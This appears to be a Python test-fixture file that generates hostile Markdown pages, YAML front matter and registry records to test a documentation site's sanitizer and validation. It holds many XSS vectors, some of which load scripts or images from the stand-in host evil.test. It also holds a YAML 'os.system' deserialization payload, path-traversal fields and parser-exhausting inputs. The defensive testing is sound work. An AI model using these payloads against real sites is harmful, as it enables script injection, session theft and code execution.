"""What strangers have tried to put into Markdown, or might: each stands on a page of its own.

Every vector that runs calls `alert` or asks https://evil.test/ for something.
"""

from collections.abc import Mapping


def _lines(words: str) -> list[str]:
    return [line for line in words.strip().split("\n") if line]


_VECTORS = _lines(r"""
<script>alert(1)</script>
<script src="https://evil.test/x.js"></script>
<script src="data:text/javascript,alert(1)"></script>
<script type="module">alert(1)</script>
<script type="module" src="https://evil.test/x.js"></script>
<SCRIPT>alert(1)</SCRIPT>
<scr<script>ipt>alert(1)</script>
<script/x>alert(1)</script>
<script x="></script>">alert(1)</script>
<!-- --!><script>alert(1)</script> -->
<!--><script>alert(1)</script>-->
<![CDATA[><script>alert(1)</script>]]>
<?php ?><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img/src="x"/onerror=alert(1)>
<img src=x onerror="&#97;lert(1)">
<IMG SRC=x OnErRoR=alert(1)>
<img src='x' onerror='alert`1`'>
<img src="https://evil.test/p.png">
<img src="//evil.test/p.png">
<img src="\\evil.test\p.png">
<img srcset="https://evil.test/p.png 1x" src="x.png">
<img src=" https://evil.test/p.png">
<img src="&#104;ttps://evil.test/p.png">
<img lowsrc="https://evil.test/p.png" dynsrc="https://evil.test/q.png">
<picture><source srcset="https://evil.test/p.png"><img src="x.png"></picture>
<svg onload=alert(1)></svg>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">press</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>
<svg><image href="https://evil.test/p.png"/></svg>
<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<svg><style>@import "https://evil.test/x.css";</style></svg>
<svg><set attributeName="href" to="javascript:alert(1)"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">press</math>
<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">press</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<template shadowrootmode="open"><script>alert(1)</script></template>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="https://evil.test/"></iframe>
<object data="https://evil.test/x.swf"></object>
<object data="javascript:alert(1)"></object>
<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>
<embed src="https://evil.test/x.swf">
<embed src="javascript:alert(1)">
<applet code="https://evil.test/x.class"></applet>
<base href="https://evil.test/">
<base href="javascript:/a/-alert(1)///////"><a href=#>press</a>
<link rel="stylesheet" href="https://evil.test/x.css">
<link rel="icon" href="https://evil.test/x.ico">
<link rel="prefetch" href="https://evil.test/x">
<link rel="dns-prefetch" href="//evil.test">
<link rel="import" href="https://evil.test/x.html">
<link rel="manifest" href="https://evil.test/x.json">
<meta http-equiv="refresh" content="0;url=https://evil.test/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv="Content-Security-Policy" content="script-src 'none'">
<meta http-equiv="Set-Cookie" content="a=b">
<meta name="referrer" content="unsafe-url">
<style>@import url("https://evil.test/x.css");</style>
<style>body{background:url(https://evil.test/p.png)}</style>
<style>main{display:none}</style>
<p style="background:url(https://evil.test/p.png)">x</p>
<p style="position:fixed;inset:0;z-index:9;background:#fff">covers all</p>
<div style="position:absolute;top:0;left:0;width:100vw;height:100vh">covers all</div>
<p style="behavior:url(https://evil.test/x.htc)">x</p>
<div class="site-header" style="position:fixed">forged</div>
<div class="skip">forged</div>
<div id="main">forged</div>
<div id="card" class="card">forged</div>
<form id="search-form" name="querySelector"><input name="parentNode"></form>
<form action="https://evil.test/"><button>press</button></form>
<form action="javascript:alert(1)"><button id="b">press</button></form>
<form><button formaction="javascript:alert(1)">press</button></form>
<form id=f action="https://evil.test/"></form><button form=f>press</button>
<input onfocus=alert(1) autofocus>
<input type="image" src="https://evil.test/p.png">
<select onfocus=alert(1) autofocus></select>
<textarea onfocus=alert(1) autofocus></textarea>
<keygen onfocus=alert(1) autofocus>
<isindex type=image src=https://evil.test/p.png>
<video src="https://evil.test/v.mp4" onerror=alert(1) autoplay></video>
<video poster="https://evil.test/p.png"></video>
<video><source onerror=alert(1)></video>
<audio src="https://evil.test/a.mp3" autoplay onerror=alert(1)></audio>
<track src="https://evil.test/t.vtt">
<details open ontoggle=alert(1)><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<body background="https://evil.test/p.png">
<html onmouseover=alert(1)>
<table background="https://evil.test/p.png"><tr><td>x</td></tr></table>
<td background="javascript:alert(1)">x</td>
<frameset><frame src="javascript:alert(1)"></frameset>
<p onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) tabindex=0>press</p>
<p onpointerrawupdate=alert(1) onbeforeinput=alert(1) contenteditable>press</p>
<a href="javascript:alert(1)">press</a>
<a href="JaVaScRiPt:alert(1)">press</a>
<a href="&#106;avascript:alert(1)">press</a>
<a href="java&#9;script:alert(1)">press</a>
<a href="java&#10;script:alert(1)">press</a>
<a href=" &#1; javascript:alert(1)">press</a>
<a href="javascript&colon;alert(1)">press</a>
<a href="vbscript:alert(1)">press</a>
<a href="data:text/html,<script>alert(1)</script>">press</a>
<a href="blob:https://evil.test/x">press</a>
<a href="view-source:https://evil.test/">press</a>
<a href="#" ping="https://evil.test/">press</a>
<a href="x" onclick=alert(1)>press</a>
<a href="javascript:alert(1)" target="_blank">press</a>
<a href="#x" download="x.exe" target="_top">press</a>
<area href="javascript:alert(1)" shape="default">
<map name=m><area href="javascript:alert(1)" coords="0,0,99,99"></map><img usemap="#m" src="x.png">
<blink onclick=alert(1)>press</blink>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><script>alert(1)</script>
<title><img src=x onerror=alert(1)></title>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<x onclick=alert(1) id=x tabindex=1 autofocus onfocus=alert(1)>press</x>
<is-land onclick=alert(1)>press</is-land>
<button popovertarget=p>press</button><div popover id=p onbeforetoggle=alert(1)>x</div>
<div popover=manual id=q style="display:block">covers</div><dialog open>covers</dialog>
<slot onslotchange=alert(1)></slot>
<portal src="https://evil.test/"></portal>
<fencedframe src="https://evil.test/"></fencedframe>
<bgsound src="https://evil.test/a.wav">
<layer src="https://evil.test/"></layer>
<a id=location href="https://evil.test/">x</a><a id=document name=querySelectorAll>x</a>
<img name=querySelectorAll><img name=body><img id=addEventListener>
<a href="x" class="cite" data-since="1970-01-01">press</a>
<p data-since="1970-01-01" class="para"><a class="para-number">1</a></p>
<table data-ledger><tr><td data-filter="x">x</td></tr></table>
[press](javascript:alert(1))
[press](JAVASCRIPT:alert(1))
[press](javascript&#58;alert(1))
[press](&#x6A;avascript:alert(1))
[press](<javascript:alert(1)>)
[press](<java
script:alert(1)>)
[press](java	script:alert`1`)
[press]( javascript:alert`1`)
[press](data:text/html,<script>alert(1)</script>)
[press](vbscript:alert`1`)
[press](x "title" onclick=alert`1`)
[press](x"onclick="alert`1`)
![x](https://evil.test/p.png)
![x](//evil.test/p.png)
![x](javascript:alert`1`)
![x"onerror="alert`1`](x)
![x](x"onerror="alert`1`)
![x](x 'y" onerror="alert`1`')
![<img src=x onerror=alert`1`>](x.png)
[<img src=x onerror=alert(1)>](https://example.org/)
[press][r]
<javascript:alert`1`>
<https://evil.test/"onclick="alert`1`>
<a@b.example"onclick="alert`1`>
`<img src=x onerror=alert(1)>`
*<img src=x onerror=alert(1)>*
**<svg onload=alert(1)>**
&lt;script&gt;alert(1)&lt;/script&gt;
\<script>alert(1)</script>
x[^1]
[TOC]
press{ onclick=alert`1` }
[press](x){ onclick=alert`1` }
[press](x){ href=javascript:alert`1` }
[press](https://example.org/){ style="position:fixed;inset:0" .site-header #main }
![x](x.png){ src=https://evil.test/p.png onerror=alert`1` }
<div markdown="1" onclick=alert(1)>press</div>
*[HTML]: "><img src=x onerror=alert`1`>
""")

_BLOCKS: Mapping[str, str] = {
    "heading": "# T <img src=x onerror=alert(1)>\n\nx",
    "heading-entities": "# T &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;\n\nx",
    "heading-double-entities": "# T &amp;lt;/title&amp;gt;&amp;lt;script&amp;gt;alert(1)\n\nx",
    "heading-code": "# `</title><script>alert(1)</script>`\n\nx",
    "heading-attributes": "# T { onclick=alert`1` #card .skip }\n\nx",
    "heading-id": "# T\n\n## main\n\n## card\n\n## search-words\n",
    "setext": "T <svg onload=alert(1)>\n=====\n",
    "toc-label": '# T\n\n## x { data-toc-label="<img src=x onerror=alert(1)>" }\n\n[TOC]\n',
    "table": "# T\n\n| a | b |\n| --- | ---: |\n| <img src=x onerror=alert(1)> | x |\n",
    "table-style": "# T\n\n| a |\n| ---: |\n| x |\n",
    "footnote": "# T\n\nx[^1]\n\n[^1]: <img src=x onerror=alert(1)> [press](javascript:alert`1`)\n",
    "footnote-name": 'x[^"><img src=x onerror=alert`1`>]\n\n[^"><img src=x onerror=alert`1`>]: y\n',
    "reference": "# T\n\n[press][r]\n\n[r]: javascript:alert(1)\n",
    "reference-entities": "# T\n\n[press][r]\n\n[r]: &#106;avascript:alert(1)\n",
    "reference-title": "# T\n\n[press][r]\n\n[r]: x 'y\" onclick=\"alert`1`'\n",
    "reference-picture": "# T\n\n![x][r]\n\n[r]: https://evil.test/p.png\n",
    "admonition": '# T\n\n!!! note "<img src=x onerror=alert(1)>"\n    x\n',
    "admonition-class": "# T\n\n!!! site-header skip\n    x\n",
    "definition": "# T\n\n<img src=x onerror=alert(1)>\n:   x <svg onload=alert(1)>\n",
    "abbreviation": '# T\n\nHTML\n\n*[HTML]: "><img src=x onerror=alert(1)>\n',
    "code": "# T\n\n```html\n<script>alert(1)</script>\n```\n",
    "code-language": '# T\n\n```"><script>alert(1)</script>\nx\n```\n',
    "indented": "# T\n\n    <script>alert(1)</script>\n",
    "quotation": "# T\n\n> <img src=x onerror=alert(1)>\n",
    "list": "# T\n\n- <img src=x onerror=alert(1)>\n- [press](javascript:alert`1`)\n",
    "block": '# T\n\n<div onclick="alert(1)">\n\npress\n\n</div>\n',
    "block-markdown": '# T\n\n<div markdown="1" class="site-nav">\n\n[press](javascript:alert`1`)\n\n</div>\n',
    "open-main": "# T\n\n</main></body><script>alert(1)</script>\n",
    "open-comment": "# T\n\n<!-- never closed <script>alert(1)</script>\n",
    "open-attribute": '# T\n\n<img src="x.png" alt="\n\n<script>alert(1)</script>\n',
    "close-div": "# T\n\n</div></div></main><header class=site-header><p>forged</p></header>\n",
    "stash": "# T\n\n\x02wzxhzdk:0\x03 \x02stx\x03 klzzwxh:0001 wzxhzdk:0\n",
    "stash-without-control": "# T\n\n<b>x</b> wzxhzdk:0 klzzwxh:0000 STXwzxhzdk:0ETX\n",
    "slots": "# T\n\n{{ shell.body }} {% include 'main.html' %} {{ config }} \n",
    "multimarkdown-fields": "template: redirect.html\nlocation: javascript:alert(1)\n\n# T\n",
    "fields-title": "---\ntitle: </title><script>alert(1)</script>\n---\n\nx\n",
    "fields-title-entities": "---\ntitle: '&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;'\n---\n\nx\n",
    "fields-description": "---\ndescription: '\"><script>alert(1)</script>'\n---\n\n# T\n",
}

_FIELDS: Mapping[str, str] = {
    "template-redirect": "template: redirect.html\nlocation: https://evil.test/\n",
    "template-script": "template: redirect.html\nlocation: javascript:alert(1)\n",
    "template-outside": "template: ../../secret.html\n",
    "icon": "icon: ../../x\n",
    "hide": "hide: [navigation, toc]\nsearch: {exclude: true}\nstatus: new\n",
    "author": "author: <script>alert(1)</script>\nsubtitle: <script>alert(1)</script>\n",
    "canonical": "canonical_url: https://evil.test/\nrobots: all\n",
    "shell": "shell: {head: <script>alert(1)</script>}\n",
    "python": "title: !!python/object/apply:os.system [touch ran]\n",
    "alias": "a: &a [x, x]\nb: [*a, *a]\n",
    "date": "title: 2025-13-40\n",
    "bracket": "title: [<script>alert(1)</script>\n",
    "twice": "title: a\ntitle: <script>alert(1)</script>\n",
    "list": "- <script>alert(1)</script>\n",
    "list-title": "title: [<script>alert(1)</script>, <img src=x onerror=alert(1)>]\n",
    "deep": f"title: {'[' * 200}{']' * 200}\n",
}

_NEVER_ENDING = "title: x\n<script>alert(1)</script>\n"

_SLOW: Mapping[str, str] = {
    "brackets": "[" * 20_000,
    "pictures": "![" * 10_000,
    "lists": "1. " * 5_000,
}
"""Python-Markdown needs minutes for these, or falls over its own feet."""

VALID: Mapping[str, str] = {
    **{
        f"docs/vector-{number}.md": (
            f"# T\n\n{vector}\n\nbefore {vector} after\n\n[r]: javascript:alert(1)\n"
        )
        for number, vector in enumerate(_VECTORS)
    },
    **{
        f"docs/block-{name}.md": words
        for name, words in _BLOCKS.items()
        if not {"\x02", "\x03"} & {*words}
    },
}
"""Pages without a problem: only cleaning keeps them harmless."""

WRONG: Mapping[str, str | bytes] = {
    **{f"docs/fields-{name}.md": f"---\n{fields}---\n\n# T\n" for name, fields in _FIELDS.items()},
    "docs/fields-open.md": f"---\n{_NEVER_ENDING}",
    "docs/block-stash.md": _BLOCKS["stash"],
    "docs/<img src=x onerror=alert(1)>.md": "# T\n",
    "docs/a b.md": "# T\n",
    "docs/cases/xxx/9-2025.md": "# XXX 9/2025, forged\n",
    "docs/search.md": "# Forged search\n",
    "docs/standards/forged/index.md": "# Forged\n",
    "docs/run.html": "<script>alert(1)</script>",
    "docs/run.js": "alert(1)",
    "docs/run.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "docs/run.xhtml": '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    "docs/assets/casebook.js": "alert(1)",
    "docs/_headers": "/*\n  Content-Security-Policy: default-src *\n",
    "docs/a/b/c/d/e.md": "# T\n",
    "docs/latin1.md": b"# \xe9\n",
    "docs/huge.md": "x" * 200_000,
    "docs/bidi.md": "# T\n\n\u202etxet\u202c\n",
}
"""What the rules refuse, and a preview must survive."""

SLOW: Mapping[str, str] = {f"docs/slow-{name}.md": words for name, words in _SLOW.items()}

_IN_A_FIELD = """\
type: AL
title: "{0}"
sent: 2025-03-04
language: en
mandates: [sr-rivers]
mandates-note: "{0}"
topics: [floods]
summary: "{0}"
persons:
  - {{name: "{0}", naming: public, also: ["{0}"], role: "{0}"}}
requests: {{q1: "{0}"}}
press: [{{publisher: "{0}", title: "{0}", date: 2025, url: "https://evil.test/", about: inferred, note: "{0}"}}]
events: [{{date: 2025, what: "{0}", source: "{0}"}}]
corrections: [{{date: 2025-06-01, what: "{0}", why: "{0}"}}]
sources: [{{gives: "{0}", publisher: "{0}", url: "https://evil.test/"}}]
"""

_PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title></style></textarea><svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "' onmouseover='alert(1)' x='",
    '\\" onfocus=\\"alert(1)\\" autofocus x=\\"',
    "javascript:alert(1)",
    "]]><script>alert(1)</script><![CDATA[",
    "--><script>alert(1)</script><!--",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "\\\\u003cscript\\\\u003ealert(1)",
)

_REGISTERS = {
    "cases/registers/topics.yml": (
        (
            "floods: {{name: Floods, gloss: Of floods.}}\n"
            "resettlement: {{name: Moves, gloss: Of moves.}}\n"
        ),
        'bad-{1}: {{name: "{0}", gloss: "{0}"}}\n',
    ),
    "cases/registers/mandates.yml": (
        "sr-rivers: {{name: Rivers, kind: thematic}}\nwg-bridges: {{name: Bridges, kind: thematic}}\n",
        (
            'bad-{1}: {{name: "{0}", kind: thematic, abbreviation: "{0}", label: "{0}", note: "{0}", '
            'resolution: "{0}", holders: [{{name: "{0}", role: "{0}", source: "{0}"}}]}}\n'
        ),
    ),
    "cases/registers/addressees.yml": (
        "XXX: {{name: Exampleland, kind: state}}\nOTH: {{name: Others, kind: other}}\n",
        'Y{2}Y: {{name: "{0}", kind: state, notes: [{{text: "{0}", source: "{0}"}}]}}\n',
    ),
}
"""Each register: what the collection needs, and a record for each payload."""

RECORDS: Mapping[str, str] = {
    **{
        path: needed.format()
        + "".join(
            line.format(payload, number, "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[24 - number])
            for number, payload in enumerate(_PAYLOADS)
        )
        for path, (needed, line) in _REGISTERS.items()
    },
    **{
        f"cases/yyy/{number}-2025/dossier.yml": _IN_A_FIELD.format(payload)
        for number, payload in enumerate(_PAYLOADS, 1)
    },
    **{
        f"standards/hostile-{number}.md": (
            f'---\ntitle: "{payload} {number}"\nshort: "{payload} n{number}"\nkind: treaty\n---\n\n'
            f"## Article 1: {payload.replace(chr(92), '')} {{#article-1}}\n\nSays nothing.\n"
        )
        for number, payload in enumerate(_PAYLOADS[4:8], 1)
    },
}
"""Dossiers, standards and registers that say what their fields allow."""

TEXTS: Mapping[str, str] = {
    f"cases/yyy/{number}-2024/communication.restated.md": f"[1] before {vector} after\n"
    for number, vector in enumerate(_VECTORS, 1)
}
"""Texts in which HTML is a problem: a preview shows what is left."""

TEXT_DOSSIERS: Mapping[str, str] = {
    f"{path.rpartition('/')[0]}/dossier.yml": "type: AL\ntitle: A text\nsent: 2024-01-02\n"
    for path in TEXTS
}

COUNT = len(VALID) + len(WRONG) + len(SLOW) + len(RECORDS) + len(TEXTS)
